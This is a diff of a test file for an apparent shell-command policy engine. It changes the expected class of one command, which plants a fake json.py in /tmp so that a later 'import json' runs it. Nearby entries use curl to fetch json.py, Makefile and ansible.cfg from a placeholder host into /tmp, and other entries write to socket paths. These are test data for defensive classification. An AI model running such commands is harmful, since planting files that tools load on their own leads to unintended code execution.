@@ -54,7 +54,8 @@ ENGINE = PolicyEngine(Config())
         ("df -h > /tmp/ssh-XXXX/agent.1", "action"),
         ("df -h > /tmp/app.sock", "action"),
         # a name a program loads by itself from the folder it runs in
-        ("printf 'import os' > /tmp/json.py && cd /tmp && python3 -c 'import json'", "action"),
+        # and the import that follows runs it: typed (main14, `written_then_run`)
+        ("printf 'import os' > /tmp/json.py && cd /tmp && python3 -c 'import json'", "typed"),
         ("curl -o /tmp/json.py https://e.example/x", "action"),
         ("curl -o /tmp/Makefile https://e.example/x", "action"),
         ("curl -o /tmp/ansible.cfg https://e.example/x", "action"),
